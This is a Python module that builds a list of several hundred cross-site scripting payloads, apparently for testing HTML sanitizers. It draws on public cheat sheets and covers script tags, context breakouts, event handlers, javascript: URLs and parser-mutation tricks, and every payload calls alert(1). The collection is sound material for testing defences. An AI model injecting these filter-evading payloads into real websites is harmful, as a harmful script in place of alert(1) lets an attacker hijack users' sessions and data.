"""Attempts to run a script, by where they try.

They are combined from what is published of each kind: the OWASP XSS Filter Evasion Cheat Sheet, the
HTML5 Security Cheatsheet (html5sec.org), PortSwigger's XSS cheat sheet, the tests of DOMPurify for
mutation XSS, and the HTML standard's own sections on scripts. Every one calls ``alert``. Where the
package brs-kb (MIT), which has some thousands, is installed, they are added.
"""

from __future__ import annotations

from importlib import import_module
from typing import Final

__all__ = ["CONTROLS", "PAYLOADS", "from_package"]

CALL: Final = "alert(1)"

#: These run a script in any browser of today, with no click and no network.
CONTROLS: Final = (
    "<script>alert(1)</script>",
    "<img src=x: onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "</script><script>alert(1)</script>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<input autofocus onfocus=alert(1)>",
    "<style>@keyframes k{}</style><b style=animation-name:k onanimationstart=alert(1)>x</b>",
)

_SCRIPTS: Final = (
    f"<script>{CALL}</script>",
    f"<SCRIPT>{CALL}</SCRIPT>",
    f"<script >{CALL}</script >",
    f"<script/x>{CALL}</script>",
    f"<script\n>{CALL}</script\n>",
    f"<script\x0c>{CALL}</script>",
    f"<<script>{CALL}//<</script>",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    f"<script>{CALL}",
    f"<script type=module>{CALL}</script>",
    f"<script type=text/javascript>{CALL}</script>",
    f"<script><!--\n{CALL}\n--></script>",
    f"<script src=data:,{CALL}></script>",
    "<script src='data:text/javascript,alert(1)'></script>",
    f"<svg><script>{CALL}</script></svg>",
    "<svg><script>&#97;lert(1)</script></svg>",
    "<svg><script href=data:,alert(1) />",
    f"<math><script>{CALL}</script></math>",
    f"<template><script>{CALL}</script></template>",
    f"<noscript><p title='</noscript><script>{CALL}</script>'>",
    "<script>eval(atob('YWxlcnQoMSk='))</script>",
    "<script>alert`1`</script>",
    "<script>\\u0061lert(1)</script>",
    "<script>window['al'+'ert'](1)</script>",
    "<script>top['alert'](1)</script>",
    "<script>setTimeout('alert(1)')</script>",
    "<script>Function('alert(1)')()</script>",
    "<script>onerror=alert;throw 1</script>",
)

_BREAKOUTS: Final = (
    f"</script><script>{CALL}</script>",
    f"</SCRIPT ><script>{CALL}</script>",
    f"</script\n><script>{CALL}</script>",
    f"</script/><img src=x: onerror={CALL}>",
    f"<!--<script>{CALL}</script>",
    "<!--<script>",
    f"<!--<script></script>--></script><script>{CALL}</script>",
    f"--><script>{CALL}</script>",
    f"--!><img src=x: onerror={CALL}>",
    f"]]><script>{CALL}</script>",
    f"*/</script><script>{CALL}</script>/*",
    f'"}});{CALL};//',
    f"';{CALL};//",
    f'";{CALL};//',
    f"\\';{CALL};//",
    f'\\";{CALL};//',
    f'\\\\";{CALL};//',
    f"\u2028{CALL}\u2028",
    f"\u2029{CALL}//",
    f"\u2028</script><script>{CALL}</script>",
    f"\n{CALL}\n",
    f"${{{CALL}}}",
    f"`+{CALL}+`",
    f"'-{CALL}-'",
    f'"-{CALL}-"',
    f"</title><script>{CALL}</script>",
    f"</textarea><script>{CALL}</script>",
    f"</style><script>{CALL}</script>",
    f"</noscript><script>{CALL}</script>",
    f"</template><script>{CALL}</script>",
    f"</iframe><script>{CALL}</script>",
    f"</xmp><script>{CALL}</script>",
    f"</div></div></div><script>{CALL}</script>",
    f"</body></html><script>{CALL}</script>",
    f"'\"><script>{CALL}</script>",
    f'"><img src=x: onerror={CALL}>',
    f"'><svg onload={CALL}>",
    f"&lt;script&gt;{CALL}&lt;/script&gt;",
    f"&#60;script&#62;{CALL}&#60;/script&#62;",
    f"%3Cscript%3E{CALL}%3C/script%3E",
    f"\\u003cscript\\u003e{CALL}\\u003c/script\\u003e",
    f"\\x3cscript\\x3e{CALL}\\x3c/script\\x3e",
    f"+ADw-script+AD4-{CALL}+ADw-/script+AD4-",
    f"\ufeff<script>{CALL}</script>",
    f"\x00<script>{CALL}</script>",
    f"<\x00script>{CALL}</script>",
)

#: An element of each kind with a handler that needs no one to do anything, or little.
_HANDLERS: Final = tuple(
    f"<{element} {handler}={CALL}>x"
    for element, handler in (
        *(("img src=x:", "onerror"), ("img src=x:", "ONERROR"), ("img/src=x:/", "onerror")),
        *(("image src=x:", "onerror"), ("svg", "onload"), ("svg/", "onload"), ("body", "onload")),
        *(
            ("body", "onpageshow"),
            ("iframe", "onload"),
            ("frameset", "onload"),
            ("style", "onload"),
        ),
        *(("link rel=stylesheet href=data:,", "onload"), ("object data=x:", "onerror")),
        *(("embed src=x:", "onerror"), ("video src=x:", "onerror"), ("audio src=x:", "onerror")),
        *(("video><source", "onerror"), ("input type=image src=x:", "onerror")),
        *(("input autofocus", "onfocus"), ("select autofocus", "onfocus")),
        *(("textarea autofocus", "onfocus"), ("button autofocus", "onfocus")),
        *(("a href=# autofocus", "onfocus"), ("b tabindex=1 autofocus", "onfocus")),
        *(("x contenteditable autofocus", "onfocus"), ("details open", "ontoggle")),
        *(("marquee", "onstart"), ("p", "onclick"), ("p", "onmouseover"), ("p", "onpointerenter")),
        *(("b", "oncopy"), ("td", "onwheel"), ("li", "onscroll"), ("form", "onsubmit")),
        *(("b style=animation-name:k", "onanimationstart"), ("b", "onbeforeinput")),
        *(("img src=x:\n", "onerror"), ("img src=x:\x0c", "onerror"), ("img src='x:'", "onerror")),
        *(("img src=`x:`", "onerror"), ('img """><img src=x:', "onerror")),
        *(("x-y", "onclick"), ("b\u2028", "onclick"), ("math", "onclick"), ("mtext", "onclick")),
    )
)

_LINKS: Final = tuple(
    form.format(url)
    for url in (
        *(
            "javascript:alert(1)",
            "JaVaScRiPt:alert(1)",
            " javascript:alert(1)",
            "java\tscript:alert(1)",
        ),
        *("java\nscript:alert(1)", "&#106;avascript:alert(1)", "javascript&colon;alert(1)"),
        *("javascript&#x3A;alert(1)", "\x01javascript:alert(1)", "javascript:/**/alert(1)"),
        *(
            "data:text/html,<script>alert(1)</script>",
            "vbscript:alert(1)",
            "//x:javascript:alert(1)",
        ),
        *(
            "javascript://%0aalert(1)",
            "blob:javascript:alert(1)",
            "view-source:javascript:alert(1)",
        ),
    )
    for form in ('<a href="{}">x</a>', '<img src="{}">', '<q cite="{}">x</q>')
)
_URLS: Final = (
    *_LINKS,
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1) form=f>x</button>",
    "<base href=javascript:alert(1)//><a href=/>x</a>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></use></svg>",
    "<math href=javascript:alert(1)>x</math>",
    "<link rel=import href=data:text/html,<script>alert(1)</script>>",
    "<table background=javascript:alert(1)><td background=javascript:alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe srcdoc=&lt;script&gt;parent.alert(1)&lt;/script&gt;></iframe>",
    "<div style=background:url(javascript:alert(1))>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<video poster=javascript:alert(1)>",
    "<a ping=javascript:alert(1) href=#>x</a>",
    "<area href=javascript:alert(1)>",
)

#: What a parser moves, so that it becomes something else when it is parsed again.
_MUTATIONS: Final = tuple(
    text.replace("@", f"<img src=x: onerror={CALL}>")
    for text in (
        *("<svg></p><style><a id='</style>@'>", "<math><mtext><table><mglyph><style><!--</style>@"),
        "<form><math><mtext></form><form><mglyph><style></math>@",
        "<math><mtext><table><mglyph><style><math><!--</style>@",
        "<svg><desc><noscript></desc></svg><p title='</noscript>@'>",
        *("<noscript><p title='</noscript>@'>", "<noembed><p title='</noembed>@'>"),
        *("<xmp><p title='</xmp>@'>", "<textarea><p title='</textarea>@'>"),
        *("<title><p title='</title>@'>", "<style><p title='</style>@'>", "<plaintext>@"),
        *("<select><template><style><!--</style>@", "<select><noscript><!--</select>@"),
        *("<svg><![CDATA[><@]]>", "<svg><title><![CDATA[@]]></title></svg>", "<!--><!--@-->"),
        *("<!-->@-->", "<!--->@-->", "<!--a--!>@-->", "<!@>", "<?@>", "</@>", "<![CDATA[@]]>"),
        *("<a title=`@`>", "<b title='&quot;>@'>", '<b title="&#39;>@">', "<p title=x`@`>"),
        *("<table><tr><td><svg><td>@", "<table><b><tr>@</b>", "<table>@<tr>", "<a><table><a>@"),
        *("<br><annotation-xml encoding=text/html>@", "<math><annotation-xml encoding=text/html>@"),
        *("<svg><foreignObject><math><mi><style><!--</style>@", "<button><p><button>@"),
        *("<img alt='<x' title='/>@'>", "<b\n\n\n=@>", '<b =">@', '<img src="x:""@>'),
        *("&lt;p title=&quot;@&quot;&gt;", "<p>&lt;/p&gt;@", "<code>```</code>@", "<ruby><rt>@"),
    )
)

PAYLOADS: Final = tuple(
    dict.fromkeys((*CONTROLS, *_SCRIPTS, *_BREAKOUTS, *_HANDLERS, *_URLS, *_MUTATIONS))
)


def from_package() -> list[str]:
    """Return the payloads of brs-kb, if it is installed."""
    try:
        package = import_module("brs_kb")
    except ImportError:
        return []
    found = {entry["payload"] for entry in package.get_all_payloads().values()}
    return sorted(text for text in found if text.encode("utf-8", "ignore").decode() == text)
